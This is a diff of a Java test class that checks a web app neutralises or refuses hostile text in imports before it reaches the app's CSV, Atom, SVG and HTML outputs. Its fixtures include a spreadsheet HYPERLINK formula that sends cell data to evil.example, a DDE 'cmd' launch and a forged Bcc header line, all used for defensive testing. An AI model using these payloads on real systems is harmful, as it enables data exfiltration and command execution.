@@ -208,9 +208,19 @@ class HostileClassesTest {
 
     // ---- text
 
-    /** What text from outside may hold that the writers must not pass on as it is. */
-    static final List<String> INJECTED = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")\r\nBcc: victim@evil.example\t@x",
-            "+cmd|' /C calc'!A0\u0001\u000b\ufffe\ufdd0", "@SUM(1+1)\u007f\u0085");
+    /**
+     * Text from outside that a JSON body takes (tab, CR and LF are allowed in it) and the writers
+     * must not pass on as it is: formula starts, a forged header line. An import of it is read back
+     * from every output, or refused for what the member must be (a slug, a URL, a token, a date).
+     */
+    static final List<String> READ_BACK = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")\r\nBcc: victim@evil.example\t@x",
+            "+cmd|' /C calc'!A0", "@SUM(1+1)");
+
+    /** Text a JSON body refuses in any member (a 400 pointing at it): control characters but tab, CR and LF, and noncharacters. */
+    static final List<String> REFUSED = List.of("Seller\u0001\u000b", "@SUM(1+1)\u007f\u0085", "+cmd\ufffe\ufdd0");
+
+    /** The members whose text reaches the CSV export (seller, availability) and the feed's and the chart's titles (model). */
+    static final List<String> WRITTEN_OUT = List.of("/drives/0/model", "/listings/0/sellerName", "/listings/0/observations/0/availability");
 
     @TestFactory
     Stream<DynamicTest> everyTextFieldThatReachesCsvXmlAndHtmlIsNeutralised() throws IOException {
@@ -218,44 +228,60 @@ class HostileClassesTest {
         JsonNode base = JSON.readTree(importDocument("text-0"));
         List<String> texts = new ArrayList<>();
         textMembers(schemas, schemas.path("ImportDocument"), base, "", texts);
-        assertThat(texts).as("text members of an import").contains("/drives/0/model", "/listings/0/sellerName",
-                "/listings/0/observations/0/availability");
+        assertThat(texts).as("text members of an import").containsAll(WRITTEN_OUT);
         return texts.stream().map(pointer -> DynamicTest.dynamicTest(pointer, () -> {
-            for (String text : INJECTED) {
+            int readBack = 0;
+            for (String text : READ_BACK) {
                 String key = "text-" + UNIQUE.incrementAndGet();
-                JsonNode doc = with(JSON.readTree(importDocument(key)), pointer, JsonNodeFactory.instance.textNode(text));
-                Response imported = admin().contentType("application/json").body(JSON.writeValueAsBytes(doc))
-                        .when().post("/admin/imports/specs").andReturn();
+                Response imported = importWith(key, pointer, text);
                 String what = "an import with " + Text.quote(text) + " at " + pointer;
-                ApiFuzzTest.checkAnswer(what, 0, imported);
                 if (imported.statusCode() != 200) {
-                    // refused (a control character, a noncharacter, a malformed token): said where
+                    // refused for what the member must be (a slug, a URL, a token, a date): said where
                     assertThat(imported.statusCode()).as("the answer to %s: %s", what, imported.asString()).isEqualTo(400);
                     assertThat(imported.asString()).as("the refusal of %s points at the member", what).contains(pointer);
                     continue;
                 }
                 readBackClean(slug(key), what);
+                readBack++;
+            }
+            if (WRITTEN_OUT.contains(pointer)) {
+                assertThat(readBack).as("imports read back with each of %s at %s", READ_BACK, pointer).isEqualTo(READ_BACK.size());
+            }
+            for (String text : REFUSED) {
+                Response imported = importWith("text-" + UNIQUE.incrementAndGet(), pointer, text);
+                String what = "an import with " + Text.quote(text) + " at " + pointer;
+                assertThat(imported.statusCode()).as("the answer to %s: %s", what, imported.asString()).isEqualTo(400);
+                assertThat(imported.asString()).as("the refusal of %s points at the member", what).contains(pointer);
             }
         }));
+    }
+
+    /** The import of one drive and its listing with the text at the pointer, answered as every generic test's answer is held. */
+    private static Response importWith(String key, String pointer, String text) throws Exception {
+        JsonNode doc = with(JSON.readTree(importDocument(key)), pointer, JsonNodeFactory.instance.textNode(text));
+        Response imported = admin().contentType("application/json").body(JSON.writeValueAsBytes(doc)).when().post("/admin/imports/specs").andReturn();
+        ApiFuzzTest.checkAnswer("an import with " + Text.quote(text) + " at " + pointer, 0, imported);
+        return imported;
     }
 
     /** Every output of a drive read back: nothing a spreadsheet runs, nothing XML forbids, no control characters, names one line. */
     private static void readBackClean(String slug, String what) throws Exception {
         Response csv = given().accept("text/csv").when().get("/drives/" + slug + "/prices").andReturn();
         ApiFuzzTest.checkAnswer("the CSV after " + what, 0, csv);
-        if (csv.statusCode() == 200) {
-            try (var rows = new CsvMapper().readerFor(String[].class).with(CsvParser.Feature.WRAP_AS_ARRAY).<String[]>readValues(csv.asByteArray())) {
-                while (rows.hasNext()) {
-                    for (String cell : rows.next()) {
-                        assertThat(Text.csvCell(cell)).as("a CSV cell after %s", what).isEqualTo(cell);
-                        assertThat(Text.singleLine(cell)).as("a CSV cell after %s", what).isEqualTo(cell.strip());
-                    }
+        assertThat(csv.statusCode()).as("the CSV after %s: %s", what, csv.asString()).isEqualTo(200);
+        int rowsRead = 0;
+        try (var rows = new CsvMapper().readerFor(String[].class).with(CsvParser.Feature.WRAP_AS_ARRAY).<String[]>readValues(csv.asByteArray())) {
+            for (; rows.hasNext(); rowsRead++) {
+                for (String cell : rows.next()) {
+                    assertThat(Text.csvCell(cell)).as("a CSV cell after %s", what).isEqualTo(cell);
+                    assertThat(Text.singleLine(cell)).as("a CSV cell after %s", what).isEqualTo(cell.strip());
                 }
             }
         }
+        assertThat(rowsRead).as("the CSV's header and two observations after %s", what).isEqualTo(3);
         assertXml(given().accept("application/atom+xml").when().get("/price-changes?week=2026-W47&drive=" + slug).andReturn(),
-                "the Atom feed after " + what);
-        assertXml(given().when().get("/drives/" + slug + "/prices.svg").andReturn(), "the chart after " + what);
+                "the Atom feed after " + what, "entry");
+        assertXml(given().when().get("/drives/" + slug + "/prices.svg").andReturn(), "the chart after " + what, "svg");
         Response page = given().accept("text/html").when().get("/drives/" + slug).andReturn();
         ApiFuzzTest.checkAnswer("the page after " + what, 0, page);
         assertThat(Text.firstRemoved(page.asString())).as("the first control character or noncharacter in the page after %s", what).isEqualTo(-1);
@@ -275,8 +301,9 @@ class HostileClassesTest {
         sql("UPDATE drive SET model = ? WHERE slug = ?", "Dirty\u0001\u000b\ufffe\r\nBcc: victim@evil.example", slug(key));
         sql("UPDATE listing SET seller_name = ? WHERE external_id = ?", "=HYPERLINK(\"x\")\u0000\u0008", externalId(key));
         assertXml(given().accept("application/atom+xml").when().get("/price-changes?week=2026-W47&drive=" + slug(key)).andReturn(),
-                "the Atom feed of a drive stored with control characters");
-        assertXml(given().when().get("/drives/" + slug(key) + "/prices.svg").andReturn(), "the chart of a drive stored with control characters");
+                "the Atom feed of a drive stored with control characters", "entry");
+        assertXml(given().when().get("/drives/" + slug(key) + "/prices.svg").andReturn(), "the chart of a drive stored with control characters",
+                "svg");
     }
 
     // ---- headers
@@ -517,14 +544,15 @@ class HostileClassesTest {
                 """.formatted(slug(key), key, externalId(key));
     }
 
-    private static void assertXml(Response response, String what) throws Exception {
+    /** A 200 whose body parses as XML, holds at least one {@code element} (the feed's entry, the chart's svg) and nothing XML forbids. */
+    private static void assertXml(Response response, String what, String element) throws Exception {
         ApiFuzzTest.checkAnswer(what, 0, response);
-        if (response.statusCode() != 200) {
-            return;
-        }
+        assertThat(response.statusCode()).as("%s: %s", what, response.asString()).isEqualTo(200);
         DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
+        factory.setNamespaceAware(true);
         factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
-        factory.newDocumentBuilder().parse(new ByteArrayInputStream(response.asByteArray())); // throws on what XML 1.0 forbids
+        org.w3c.dom.Document document = factory.newDocumentBuilder().parse(new ByteArrayInputStream(response.asByteArray())); // throws on what XML 1.0 forbids
+        assertThat(document.getElementsByTagNameNS("*", element).getLength()).as("%s elements in %s", element, what).isPositive();
         assertThat(Text.firstNotXml(response.asString())).as("the first character XML forbids in %s", what).isEqualTo(-1);
     }
 
